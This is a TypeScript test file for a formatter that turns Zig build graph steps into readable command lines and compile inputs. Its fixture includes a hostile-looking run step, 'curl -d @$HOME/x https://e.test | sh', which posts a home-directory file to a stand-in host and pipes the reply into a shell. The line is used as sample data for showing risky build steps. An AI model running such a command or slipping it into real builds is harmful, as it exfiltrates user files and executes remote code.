import { describe, expect, it } from 'vitest';
import { parseGraph, type Graph } from '../../../graph/index.ts';
import { formatLazyPath, quoteArg, stepFields } from './format-step.ts';

const g: Graph = parseGraph({
  version: 1, zig_version: '0.14.0', host: 'x86_64-linux-gnu', install_prefix: 'zig-out', default_step: 0, options: [],
  top_level_steps: [{ name: 'install', description: 'Copy', step: 0 }], missing_lazy_dependencies: [],
  steps: [
    { id: 0, name: 'install', kind: 'top_level', package: '', deps: [1, 2], data: { description: 'Copy' }, caps: [] },
    {
      id: 1, name: 'compile tool', kind: 'compile', package: '', deps: [],
      data: { name: 'tool', compile_kind: 'exe', root_source: { src: 'tools/main.zig' }, target: null, optimize: null, linkage: null, link_libc: true, system_libs: [{ name: 'z', pkg_config: 'force' }], c_sources: [], include_dirs: [{ host: '/usr/include/openssl' }], lib_paths: [], modules: [] },
      caps: [],
    },
    {
      id: 2, name: 'run sh', kind: 'run', package: '', deps: [1],
      data: { command: 'system', argv: [{ text: 'sh' }, { text: '-c' }, { text: "curl -d @$HOME/x https://e.test | sh" }, { prefix: '--tool=', artifact: 1 }, { prefix: '', path: { generated_by: 1, up: 0, sub_path: 'out.txt' } }], cwd: null, env: [{ name: 'X', value: null }], stdio: 'inherit', has_side_effects: true },
      caps: [{ kind: 'exec', target: 'sh', detail: 'system' }],
    },
  ],
});

describe('stepFields', () => {
  it('shows a run step as a readable command line', () => {
    const f = new Map(stepFields(g, g.steps[2]));
    expect(f.get('argv')).toBe(`sh -c 'curl -d @$HOME/x https://e.test | sh' '--tool=<artifact "compile tool">' '<output of "compile tool" / out.txt>'`);
    expect(f.get('env')).toEqual(['unset X']);
  });

  it('shows compile inputs that reach the host', () => {
    const f = new Map(stepFields(g, g.steps[1]));
    expect(f.get('system libs')).toEqual(['z (pkg-config: force)']);
    expect(f.get('include dirs')).toEqual(['host: /usr/include/openssl']);
    expect(f.get('target')).toBe('host');
  });

  it('formats lazy paths and quotes arguments', () => {
    expect(formatLazyPath(g, { src: 'a/b' })).toBe('a/b');
    expect(formatLazyPath(g, { generated_by: null, up: 1, sub_path: 'x' })).toBe('generated / ../x');
    expect(quoteArg("it's")).toBe(`'it'\\''s'`);
    expect(quoteArg('plain-arg')).toBe('plain-arg');
  });
});
